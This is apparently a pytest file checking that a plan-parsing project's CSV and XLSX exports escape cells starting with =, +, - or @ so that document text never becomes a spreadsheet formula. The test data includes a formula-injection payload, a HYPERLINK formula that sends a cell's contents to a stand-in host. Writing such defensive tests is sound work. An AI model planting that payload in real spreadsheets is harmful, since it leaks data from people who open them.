"""Formula-safe exports (issue 22 row 5): text from a document never becomes a spreadsheet formula. A plan
whose clauses, title and unit names start with = + - @ is parsed and exported as every CSV and XLSX the
project writes (task table, duty sheet, matrix); each workbook is read back with openpyxl and each CSV with
the csv module."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from kb.export import department_sheet_bytes, matrix, matrix_bytes, tasks_bytes
from kb.export.formats import csv_cell, starts_formula
from kb.load import load
from kb.parse import DepartmentRegistry, parse
from kb.types import Clause

HOSTILE = '=HYPERLINK("http://x?d="&A1,"a")'
PLAN = f"""=1+1 工作方案
一、重点任务
（一）数据共享。{HOSTILE}（县林业局牵头，县发改局配合）
（二）@SUM(1)
推进平台建设。（县林业局负责）
（三）+1
完成改造。（县发改局负责）
（四）-1+2
完成试点。（县林业局负责）
"""


@pytest.fixture(scope="module")
def clauses(tmp_path_factory: pytest.TempPathFactory) -> list[Clause]:
    path = tmp_path_factory.mktemp("formulas") / "formula-plan.txt"
    path.write_text(PLAN, encoding="utf-8")
    parsed = list(parse(load(path), DepartmentRegistry()).clauses)
    assert any(c.text.startswith(HOSTILE) or HOSTILE in c.text for c in parsed), [c.text for c in parsed]
    return parsed


def workbooks(clauses: list[Clause]) -> dict[str, bytes]:
    return {
        "tasks": tasks_bytes(clauses, "xlsx"),
        "matrix": matrix_bytes(matrix(clauses), "xlsx"),
        "duty sheet": department_sheet_bytes(clauses, "县林业局", "xlsx"),
    }


def test_no_cell_of_any_workbook_is_a_formula(clauses: list[Clause]) -> None:
    seen: list[str] = []
    for name, data in workbooks(clauses).items():
        book = openpyxl.load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name} {sheet.title}!{cell.coordinate}: {cell.value}"
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, f"{name} {sheet.title}!{cell.coordinate}: {cell.value}"
                        seen.append(cell.value)
    # the text is kept exactly as the document wrote it, shown as text
    assert any(HOSTILE in text for text in seen)
    assert {"@SUM(1)", "+1", "-1+2"} <= set(seen)


def test_every_csv_cell_that_would_start_a_formula_is_quoted(clauses: list[Clause]) -> None:
    for data in (tasks_bytes(clauses, "csv"), matrix_bytes(matrix(clauses), "csv")):
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if starts_formula(c)], cells
    tasks = [
        c for row in csv.reader(io.StringIO(tasks_bytes(clauses, "csv").decode("utf-8-sig"))) for c in row
    ]
    assert "'@SUM(1)" in tasks and "'+1" in tasks and "'-1+2" in tasks
    assert any(c.startswith("'" + HOSTILE) for c in tasks)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1+1", "'+1+1"),
        ("-1+2", "'-1+2"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5%", "'-5%"),  # text, escaped as OWASP says: Excel would compute -5% (harmless, but a formula)
        ("县林业局", "县林业局"),
        ("目标 -5%", "目标 -5%"),  # only a cell's first character matters
        (-3, -3),  # a number the export computed stays a number
        (12, 12),
        (None, ""),
    ],
)
def test_csv_cells_follow_owasp(cell: str | int | None, written: str | int) -> None:
    assert csv_cell(cell) == written


def test_an_exported_workbook_opens_with_the_text_as_written(tmp_path: Path, clauses: list[Clause]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(tasks_bytes(clauses, "xlsx")))
    contents = [row[4] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert any(HOSTILE in str(text) for text in contents)
